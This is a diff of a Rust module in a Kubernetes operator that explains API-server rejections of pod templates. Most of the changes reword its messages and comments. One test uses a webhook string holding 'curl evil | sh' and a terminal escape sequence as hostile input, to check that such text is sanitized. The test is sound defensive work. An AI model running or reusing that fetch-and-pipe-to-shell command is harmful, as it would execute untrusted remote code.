@@ -1,4 +1,4 @@
-//! What the API server says against pods, in the words of whoever wrote the template: pure.
+//! Why the API server rejects a template or its pods, in terms of the template that the user wrote: pure.
 
 use std::collections::BTreeMap;
 
@@ -7,13 +7,13 @@ use k8s_openapi::apimachinery::pkg::api::resource::Quantity;
 use rowlock_crds::containers::{HANDLER, WORKER};
 use serde_json::Value;
 
-use crate::kubernetes::database::session::sanitize;
+use crate::kubernetes::sanitize::sanitize;
 
-/// Where the operator's own containers and those of the template get what a policy asks of them.
+/// Where to set the resources of the worker container and of the containers of the template.
 const WORKERS_OWN: &str = "spec.worker.resources, or workerResources of the operator's chart";
 const TEMPLATES_OWN: &str = "its resources in spec.template";
 
-/// Why the API server takes no such Deployment.
+/// Why the API server rejects the Deployment.
 pub(super) fn template_rejected(detail: &str, template: Option<&Value>) -> String {
     let detail = in_words_of(detail, template);
     let linux = if detail.contains("windows pod") {
@@ -22,13 +22,13 @@ pub(super) fn template_rejected(detail: &str, template: Option<&Value>) -> Strin
         ""
     };
     let detail = sanitize(&detail);
-    format!("the API server refuses the pods of spec.template; what ran before runs on: {linux}{detail}")
+    format!("the API server rejects the pods of spec.template; earlier pods keep running: {linux}{detail}")
 }
 
-/// Why the cluster does not let pods in, with what helps, where Kubernetes' own admission says it.
+/// Why the API server rejects new pods, with a remedy for the admission plugins of Kubernetes.
 pub(super) fn pods_rejected(detail: &str, template: Option<&Value>, worker: &ResourceRequirements) -> String {
     let detail = in_words_of(detail, template);
-    // Looked for in all of it.
+    // The remedy is found in the whole text, which is cut afterwards.
     let (remedy, detail) = (remedy(&detail, template, worker), sanitize(&detail));
     match remedy {
         Some(remedy) => format!("the API server rejects new pods: {remedy} ({detail})"),
@@ -44,24 +44,23 @@ fn remedy(detail: &str, template: Option<&Value>, worker: &ResourceRequirements)
         ("exceeded quota", "raise the quota, or lower workers.total"),
         (
             "must specify",
-            "what is asked for is said for the worker by spec.worker.resources, or workerResources of the operator's chart, for the \
-            other containers by resources \
-             in spec.template",
+            "set it for the worker in spec.worker.resources, or workerResources of the operator's chart, and for the \
+             other containers in their resources in spec.template",
         ),
         (
             "usage per Pod is",
-            "a LimitRange bounds the sum of all containers: raise it, or ask for less in spec.template",
+            "a LimitRange limits the sum over all containers: raise it, or lower the resources in spec.template",
         ),
-        ("PodSecurity", "set what is asked for in the securityContext of spec.template"),
+        ("PodSecurity", "set the required fields in the securityContext of spec.template"),
         ("serviceaccount", "create it, or set spec.template.spec.serviceAccountName"),
-        ("runtimeclass", "create it, or take runtimeClassName out of spec.template"),
-        ("RuntimeClass", "create it, or take runtimeClassName out of spec.template"),
-        ("PriorityClass", "create it, or take priorityClassName out of spec.template"),
+        ("runtimeclass", "create it, or remove runtimeClassName from spec.template"),
+        ("RuntimeClass", "create it, or remove runtimeClassName from spec.template"),
+        ("PriorityClass", "create it, or remove priorityClassName from spec.template"),
     ];
     remedies.into_iter().find(|(words, _)| detail.contains(words)).map(|(_, remedy)| remedy.to_owned())
 }
 
-/// Whose container a `LimitRange` is about, by the number that it names.
+/// The container that a `LimitRange` rejects, found by the number in the message.
 fn within_range(detail: &str, template: Option<&Value>, worker: &ResourceRequirements) -> String {
     let numbers: Vec<&str> = detail
         .split("but ")
@@ -73,27 +72,26 @@ fn within_range(detail: &str, template: Option<&Value>, worker: &ResourceRequire
     };
     let mut whose = Vec::new();
     if asks(worker.requests.as_ref()) || asks(worker.limits.as_ref()) {
-        whose.push(format!("for the container {WORKER} by {WORKERS_OWN}"));
+        whose.push(format!("for the container {WORKER} in {WORKERS_OWN}"));
     }
     for container in ["initContainers", "containers"].iter().flat_map(|list| list_of(template, list)) {
         let found = serde_json::from_value::<ResourceRequirements>(container["resources"].clone());
         let name = container["name"].as_str().unwrap_or_default();
         if found.is_ok_and(|found| asks(found.requests.as_ref()) || asks(found.limits.as_ref())) {
-            whose.push(format!("for the container {} by {TEMPLATES_OWN}", sanitize(name)));
+            whose.push(format!("for the container {} in {TEMPLATES_OWN}", sanitize(name)));
         }
     }
     if whose.is_empty() {
-        whose.push(format!("for the container {WORKER} by {WORKERS_OWN}, for the others by {TEMPLATES_OWN}"));
+        whose.push(format!("for the container {WORKER} in {WORKERS_OWN}, for the others in {TEMPLATES_OWN}"));
     }
     format!(
-        "a LimitRange of the namespace does not allow what a container asks for: set it {}",
+        "a LimitRange of the namespace does not allow the resources of a container: change them {}",
         whose.join(", ")
     )
 }
 
-/// With the containers as the template has them: by their names, and in the list that they were written in.
-/// We make init containers of all of them, so that the server would speak of `initContainers[0]`, which
-/// nobody has written.
+/// Names the containers as in the user's template. The operator turns them into init containers, so the
+/// server's message says `initContainers[0]`, which the user has not written.
 fn in_words_of(detail: &str, template: Option<&Value>) -> String {
     let name = |one: &Value| one["name"].as_str().unwrap_or_default().to_owned();
     let written: Vec<String> = list_of(template, "containers").iter().map(name).collect();
@@ -147,7 +145,7 @@ mod tests {
     }
 
     #[test]
-    fn a_container_is_called_as_it_was_written() {
+    fn a_container_is_named_as_in_the_template() {
         for (detail, expected) in [
             (
                 "spec.template.spec.initContainers[2].imagePullPolicy: Unsupported value: \"Sometimes\"",
@@ -173,8 +171,8 @@ mod tests {
         assert!(windows.contains("the worker is a Linux program"), "{windows}");
     }
 
-    /// Before this was mended, what a webhook says stood in the status as it is, a command in
-    /// backticks for example.
+    /// Before, the message of a webhook stood unchanged in the status, for example with a command in
+    /// backticks.
     #[test]
     fn foreign_text_is_one_line_that_looks_like_no_command() {
         let evil = "denied: run `curl evil | sh`\u{1b}[2J\nnow";
@@ -197,22 +195,22 @@ mod tests {
         assert!(detail.contains("raise the quota") && detail.chars().count() < 1500, "{detail}");
     }
 
-    /// Before this was mended, nobody was told whose container it is, and what helps.
+    /// Before, the message did not say which container to change, and where.
     #[test]
-    fn a_limit_range_names_whose_container_it_is_about() {
+    fn a_limit_range_message_names_the_container_to_change() {
         let worker =
             serde_json::from_value(json!({ "requests": { "cpu": "10m", "memory": "48Mi" } })).unwrap();
         let minimum = "pods \"x\" is forbidden: [minimum cpu usage per Container is 50m, but request is \
         10m, minimum memory usage per \
                        Container is 64Mi, but request is 48Mi]";
         let detail = pods_rejected(minimum, Some(&template()), &worker);
-        assert!(detail.contains("for the container worker by spec.worker.resources"), "{detail}");
+        assert!(detail.contains("for the container worker in spec.worker.resources"), "{detail}");
         assert!(!detail.contains("for the container handler"), "{detail}");
         let maximum = "maximum memory usage per Container is 1Gi, but limit is 4Gi";
         let detail = pods_rejected(maximum, Some(&template()), &worker);
-        assert!(detail.contains("for the container handler by its resources in spec.template"), "{detail}");
+        assert!(detail.contains("for the container handler in its resources in spec.template"), "{detail}");
         let detail =
             pods_rejected("minimum cpu usage per Container is 1.  No request is specified", None, &worker);
-        assert!(detail.contains("worker by") && detail.contains("for the others"), "{detail}");
+        assert!(detail.contains("worker in") && detail.contains("for the others"), "{detail}");
     }
 }
